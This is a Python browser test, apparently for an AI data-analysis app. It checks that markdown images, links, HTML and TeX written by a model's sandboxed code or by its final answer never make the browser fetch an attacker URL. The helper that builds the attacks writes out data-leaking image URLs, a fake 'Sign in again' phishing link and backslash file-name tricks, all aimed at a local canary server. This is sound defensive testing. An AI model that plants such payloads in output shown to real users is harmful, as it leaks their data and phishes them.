"""Issue 14, point 6, in real Chromium: nothing a step writes makes the browser fetch a URL.

The sandbox has no network, the reader's browser has. A step (scripted as a model's code,
run in the real sandbox) puts markdown images and links everywhere it can: its printed
output, an exception message (which becomes an error event and the step's failure), file
names, table cells, the kernel's own log line (the local backend's notice when the process
dies), and the model's answer itself. Every request the page makes is recorded; none may go
to the attacker's server, and the attacker's server must see none.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.agent.fake_openai import FakeOpenAI, reply, tool_call
from tests.app.samples import messy_csv
from tests.app.server import running_app

pytestmark = pytest.mark.browser


class Canary:
    """An HTTP server standing for the attacker: it records every request it gets."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def attacks(origin: str) -> tuple[str, str, str]:
    image = f"![chart](http://{origin}/image.png?data=Gizmo)"
    link = f"[Sign in again](http://{origin}/login)"
    first = (
        "import pandas as pd\n"
        f"print({image!r})\n"
        f"print({('<img src=http://' + origin + '/html.png>')!r})\n"
        f"print('http://{origin}/bare.png www.{origin}/www.png')\n"
        # File names: no '/' is possible, but browsers read '\\' as one in http URLs.
        f"open({('output/![n](http:' + chr(92) * 2 + origin + chr(92) + 'name.png).csv')!r}, 'w')"
        ".write('a\\n1\\n')\n"
        f"df = pd.DataFrame({{'cell': [{image!r}, {link!r}], {image!r}: [1, 2]}})\n"
        f"df.to_parquet({('output/' + link.replace('/', chr(92)) + '.parquet')!r})\n"
        f"raise ValueError({(image + ' ' + link + ' $\\\\includegraphics{http://' + origin + '/tex.png}$')!r})\n"
    )
    # The kernel's own log line (stderr of the process) is quoted when the process dies.
    second = ("import os\n"
              f"os.write(2, {(image + ' ' + link + chr(10)).encode()!r})\n"
              "os._exit(3)\n")
    answer = (f"Done. {image} {link} <img src='http://{origin}/answer-html.png'> "
              f"$\\includegraphics{{http://{origin}/answer-tex.png}}$ http://{origin}/answer-bare")
    return first, second, answer


@pytest.mark.parametrize("backend", ["local", pytest.param("docker", marks=pytest.mark.docker)])
def test_markdown_from_a_step_never_makes_the_browser_fetch_its_url(page, tmp_path, backend,
                                                                   request):
    if backend == "docker":
        request.getfixturevalue("docker_image")
    page.set_default_timeout(120_000)
    canary = Canary()
    first, second, answer = attacks(canary.origin)
    requested: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    page.route(f"http://{canary.origin}/**", lambda route: (requested.append(route.request.url),
                                                            route.abort()))
    script = [tool_call(first, "Look at the data"), tool_call(second, "Look again"), reply(answer)]
    csv = tmp_path / "sales.csv"
    csv.write_bytes(messy_csv())
    try:
        with FakeOpenAI(script) as model, running_app(
                tmp_path / "data", ANALYST_SANDBOX_BACKEND=backend, OPENAI_API_KEY="test-key",
                OPENAI_BASE_URL=model.base_url, ANALYST_STREAM="off") as url:
            page.goto(url)
            page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(csv))
            page.get_by_text("sales.csv").first.wait_for()
            box = page.locator('[data-testid="stChatInputTextArea"]')
            box.fill("what is the total revenue?")
            box.press("Enter")
            page.get_by_text("Done.", exact=False).last.wait_for(timeout=180_000)
            page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]')
            for expander in page.locator('[data-testid="stExpander"] summary').all():
                expander.click()  # the error details and printed output, opened
            page.wait_for_timeout(1_500)
            text = page.locator('[data-testid="stMain"]').inner_text()
    finally:
        canary.close()
    to_attacker = [u for u in requested if canary.origin in u]
    assert to_attacker == [] and canary.hits == [], (to_attacker, canary.hits)
    # Shown, as text: the reader can still see what the step wrote.
    assert f"![chart](http://{canary.origin}/image.png?data=Gizmo)" in text
    assert "Sign in again" in text
    assert page.locator(f'img[src*="{canary.origin}"]').count() == 0
    assert page.locator(f'a[href*="{canary.origin}"]').count() == 0
